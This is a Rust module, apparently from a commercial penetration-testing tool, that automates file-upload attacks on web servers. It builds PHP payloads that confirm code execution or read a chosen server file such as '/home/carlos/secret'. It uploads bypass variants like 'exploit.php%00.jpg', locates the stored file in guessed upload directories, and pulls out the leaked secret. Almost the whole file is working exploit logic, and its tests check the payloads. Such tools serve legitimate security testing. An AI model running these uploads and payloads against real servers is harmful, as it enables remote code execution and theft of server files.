// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! Upload, locate and verify steps shared by every strategy.

use tracing::{debug, info};

use super::StrategyTools;
use crate::config::PayloadSettings;
use crate::context::AttackContext;
use crate::errors::TransportError;
use crate::http_client::UploadFile;
use crate::observer::{BypassTechnique, ObservationType, PayloadInfo, ProbePhase};
use crate::types::StrategyStatus;

const SECRET_MAX_LEN: usize = 256;

/// One file to try, and the name the server is expected to store it under.
#[derive(Debug, Clone)]
pub struct Variant {
    pub file: UploadFile,
    pub stored_name: String,
}

impl Variant {
    pub fn new(file: UploadFile) -> Self {
        let stored_name = file.filename.clone();
        Self { file, stored_name }
    }

    pub fn stored_as(mut self, name: &str) -> Self {
        self.stored_name = name.to_string();
        self
    }
}

#[derive(Debug, Clone, Default, PartialEq)]
pub struct UploadOutcome {
    pub accepted: bool,
    pub rejected: bool,
    pub stored_filename: Option<String>,
    pub file_url: Option<String>,
}

#[derive(Debug, Clone, PartialEq)]
pub enum AccessOutcome {
    Executed { url: String, body: String },
    SourceServed { url: String },
    NotFound,
}

/// The PHP payload: prints the marker, or the configured file's content.
pub fn php_payload(payload: &PayloadSettings) -> String {
    match payload.read_file.as_deref() {
        Some(path) => format!("<?php echo file_get_contents('{}'); ?>", path),
        None => format!("<?php echo '{}'; ?>", payload.execution_marker),
    }
}

/// Upload through the transport and record what the observer sees.
pub async fn upload_file(
    context: &mut AttackContext,
    tools: &mut StrategyTools<'_>,
    file: &UploadFile,
) -> Result<UploadOutcome, TransportError> {
    let response = tools.transport.upload(file).await?;
    let info = PayloadInfo::upload(ProbePhase::Upload, &file.filename, context.target_url());
    let batch = tools.observer.analyze_response(&response, context, &info);

    let mut outcome = UploadOutcome::default();
    for obs in &batch {
        match obs.observation_type() {
            ObservationType::UploadSuccess => {
                outcome.accepted = true;
                if outcome.file_url.is_none() {
                    outcome.file_url = obs.file_url.clone();
                    outcome.stored_filename = obs.stored_filename.clone();
                }
            }
            ObservationType::UploadRejected
            | ObservationType::ExtensionForced
            | ObservationType::MimeTypeRejected
            | ObservationType::SizeLimitExceeded => outcome.rejected = true,
            _ => {}
        }
    }
    context.add_observations(batch);

    debug!(
        "Upload {} -> HTTP {} (accepted: {}, rejected: {})",
        file.filename, response.status_code, outcome.accepted, outcome.rejected
    );
    Ok(outcome)
}

/// Find the stored file and fetch it through the observer. Candidate URLs
/// are the reported location, then each configured upload directory under
/// the reported stored name and under the expected one.
pub async fn verify_execution(
    context: &mut AttackContext,
    tools: &mut StrategyTools<'_>,
    uploaded_name: &str,
    stored_name: &str,
    outcome: &UploadOutcome,
) -> AccessOutcome {
    let mut candidates: Vec<String> = Vec::new();
    if let Some(url) = &outcome.file_url {
        candidates.push(url.clone());
    }
    let names = outcome.stored_filename.as_deref().into_iter().chain([stored_name]);
    for name in names {
        for dir in &tools.payload.upload_dirs {
            let url = format!("{}{}{}", context.base_url(), dir, name);
            if !candidates.contains(&url) {
                candidates.push(url);
            }
        }
    }

    let mut served = None;
    for url in candidates {
        let response = match tools.transport.fetch(&url).await {
            Ok(response) => response,
            Err(e) => {
                debug!("Fetch {} failed: {}", url, e);
                continue;
            }
        };
        if response.status_code == 404 {
            continue;
        }

        let info = PayloadInfo::access(uploaded_name, &url);
        let batch = tools.observer.analyze_response(&response, context, &info);
        let executed = batch
            .iter()
            .any(|o| o.observation_type() == ObservationType::CodeExecutionDetected);
        let source = batch
            .iter()
            .any(|o| o.observation_type() == ObservationType::FileReadConfirmed);
        context.add_observations(batch);

        if executed {
            return AccessOutcome::Executed {
                url,
                body: response.body,
            };
        }
        if source && served.is_none() {
            served = Some(url);
        }
    }

    match served {
        Some(url) => AccessOutcome::SourceServed { url },
        None => AccessOutcome::NotFound,
    }
}

/// Try each variant until one executes.
///
/// SUCCESS on execution; INCONCLUSIVE when some variant was accepted but
/// never located; FAILURE otherwise.
pub async fn run_variants(
    context: &mut AttackContext,
    tools: &mut StrategyTools<'_>,
    technique: BypassTechnique,
    variants: Vec<Variant>,
) -> Result<StrategyStatus, TransportError> {
    let mut inconclusive = false;

    for variant in variants {
        let filename = variant.file.filename.clone();
        let outcome = upload_file(context, tools, &variant.file).await?;
        if outcome.rejected && !outcome.accepted {
            debug!("{} rejected", filename);
            continue;
        }

        match verify_execution(context, tools, &filename, &variant.stored_name, &outcome).await {
            AccessOutcome::Executed { url, body } => {
                info!("[SUCCESS] {} executed at {}", filename, url);
                let confirmation = tools.observer.confirm_bypass(technique, &filename, Some(&url));
                context.add_observation(confirmation);
                if tools.payload.read_file.is_some() {
                    if let Some(secret) = extract_secret(&body) {
                        context.record_secret(&secret);
                    }
                }
                return Ok(StrategyStatus::Success);
            }
            AccessOutcome::SourceServed { url } => {
                debug!("{} served as source at {}", filename, url);
            }
            AccessOutcome::NotFound => {
                if outcome.accepted {
                    inconclusive = true;
                }
            }
        }
    }

    Ok(if inconclusive {
        StrategyStatus::Inconclusive
    } else {
        StrategyStatus::Failure
    })
}

/// A short plain-text body printed by the payload.
pub fn extract_secret(body: &str) -> Option<String> {
    let trimmed = body.trim();
    if trimmed.is_empty()
        || trimmed.len() > SECRET_MAX_LEN
        || trimmed.contains('<')
        || trimmed.contains("<?php")
    {
        return None;
    }
    Some(trimmed.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_php_payload() {
        let mut payload = PayloadSettings::default();
        assert_eq!(php_payload(&payload), "<?php echo 'EXEC_OK'; ?>");
        payload.read_file = Some("/home/carlos/secret".into());
        assert_eq!(
            php_payload(&payload),
            "<?php echo file_get_contents('/home/carlos/secret'); ?>"
        );
    }

    #[test]
    fn test_extract_secret() {
        assert_eq!(extract_secret("  s3cr3tT0k3n\n").as_deref(), Some("s3cr3tT0k3n"));
        assert_eq!(extract_secret(""), None);
        assert_eq!(extract_secret("<html><body>nope</body></html>"), None);
        assert_eq!(extract_secret(&"a".repeat(300)), None);
    }

    #[test]
    fn test_variant_stored_name() {
        let v = Variant::new(UploadFile::new("exploit.php%00.jpg", "x")).stored_as("exploit.php");
        assert_eq!(v.stored_name, "exploit.php");
        assert_eq!(v.file.content_type, "image/jpeg");
    }
}
